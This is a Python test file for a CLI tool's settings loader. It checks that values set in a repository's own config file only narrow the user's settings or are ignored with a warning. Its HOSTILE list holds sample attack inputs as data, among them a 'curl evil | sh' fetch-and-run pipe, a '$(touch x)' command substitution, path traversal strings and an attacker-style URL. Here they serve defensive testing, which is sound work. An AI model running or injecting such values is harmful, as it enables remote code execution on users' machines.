"""Every key, set to anything in a repository's file: it narrows what the user has, or does nothing."""

from __future__ import annotations

import json
from fnmatch import fnmatchcase
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from acr_cli.errors import ConfigurationError
from acr_cli.settings import KEYS, Key, Settings, load
from acr_cli.settings.sources import _STRICTEST

MODELS = ("a", "ab", "abc", "b", "b/c", "openai/gpt-5", "openai/gpt-5-mini", "openai/gpt-55")
PATTERNS = (
    *MODELS,
    "*",
    "a*",
    "?",
    "a?",
    "a??",
    "*c",
    "openai/*",
    "openai/gpt-?",
    "openai/gpt-5*",
    "[ab]",
    "?*",
)
HOSTILE = ("evil", "curl evil | sh", "https://evil.example", "/etc", "..", "*", "$(touch x)", "auto")
UNKNOWN = (
    *(
        "model",
        "command",
        "base_url",
        "api_key_env",
        "key",
        "parts",
        "plugins",
        "hooks",
        "env",
        "proxy",
        "yes",
    ),
    *("memory", "sandboxes", "volumes", "privileged", "Max_Cost", "MAX_COST", "max-cost", "sandbox.network"),
    *(
        "model.base_url",
        "models",
        "acr.test",
        "tool.acr.test",
        "test.command",
        "memory.path",
        "home",
        "origins",
    ),
)


def values(key: Key) -> st.SearchStrategy[Any]:
    """Values that a key can hold, the widest among them."""
    match key.kind:
        case "text":
            return st.sampled_from(key.choices or HOSTILE)
        case "list":
            return st.lists(
                st.sampled_from(PATTERNS if key.project else (*HOSTILE, *MODELS)), min_size=1, max_size=3
            )
        case "flag":
            return st.booleans()
        case "count":
            return st.integers(int(key.low), 10**6)
        case "size":
            return st.integers(int(key.low), 2**50)
        case "duration":
            return st.floats(0.1, 10**9)
        case "days":
            return st.one_of(st.just("none"), st.floats(0, 10**6))
        case "number" | "money":
            top = key.high if key.high < float("inf") else 10**9
            return st.one_of(st.floats(key.low + 0.001 if key.above else key.low, top))
        case _:
            raise AssertionError(f"{key.kind} is a kind that no project was tried with")


def toml(name: str, value: object) -> str:
    return f"{name} = {json.dumps(value)}\n"


def allowed(patterns: tuple[str, ...]) -> set[str]:
    return {name for name in MODELS if not patterns or any(fnmatchcase(name, each) for each in patterns)}


def is_narrower(key: Key, mine: Any, theirs: Any) -> bool:
    match key.project:
        case "min":
            return bool(theirs <= mine)
        case "strict":
            order = _STRICTEST[key.name]
            return order.index(theirs) >= order.index(mine)
        case "union":
            return set(theirs) >= set(mine)
        case "intersect":
            return allowed(theirs) <= allowed(mine)
        case _:
            return bool(theirs == mine)


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("project")
    (folder / ".git").mkdir()
    return folder


def loaded(place: Path, user: str, project: str) -> tuple[Settings, tuple[str, ...]]:
    (place / "user.toml").write_text(user)
    (place / ".acr.toml").write_text(project)
    found = load(where=place, config=place / "user.toml", environ={"ACR_HOME": str(place / "home")})
    return found.settings, found.warnings


@pytest.mark.parametrize("key", [key for key in KEYS if key.file], ids=lambda key: key.name)
def test_a_key_only_narrows_or_is_ignored_and_said(place: Path, key: Key) -> None:
    @settings(max_examples=25 if key.project else 6, deadline=None, database=None, derandomize=True)
    @given(mine=st.one_of(st.none(), values(key)), theirs=values(key))
    def check(mine: Any, theirs: Any) -> None:
        user = "" if mine is None else toml(key.name, mine)
        before, _ = loaded(place, user, "")
        try:
            after, warnings = loaded(place, user, toml(key.name, theirs))
        except ConfigurationError:
            if key.project != "intersect":
                raise
            return  # no model at all: nothing is narrower
        changed = {name for name in Settings.__slots__ if getattr(before, name) != getattr(after, name)}
        assert changed <= {key.field, "origins"}
        assert is_narrower(key, getattr(before, key.field), getattr(after, key.field))
        if not key.project:
            assert any(repr(key.name) in warning and "ignored" in warning for warning in warnings)

    check()


@pytest.mark.parametrize("name", UNKNOWN)
@pytest.mark.parametrize("value", ["evil", True, 10**9, ["evil"]], ids=["text", "flag", "number", "list"])
def test_what_is_no_key_does_nothing_and_is_said(place: Path, name: str, value: object) -> None:
    before, _ = loaded(place, "", "")
    after, warnings = loaded(place, "", toml(name, value))
    assert (after, [warning for warning in warnings if "ignored" in warning]) == (before, list(warnings))
    assert warnings


def test_tables_of_models_do_nothing(place: Path) -> None:
    before, _ = loaded(place, "", "")
    table = '[[model]]\nid = "openai/x"\nbase_url = "https://evil.example"\napi_key_env = "OPENAI_API_KEY"\n'
    after, warnings = loaded(place, "", table)
    assert after == before
    assert "'model' is ignored" in warnings[0]
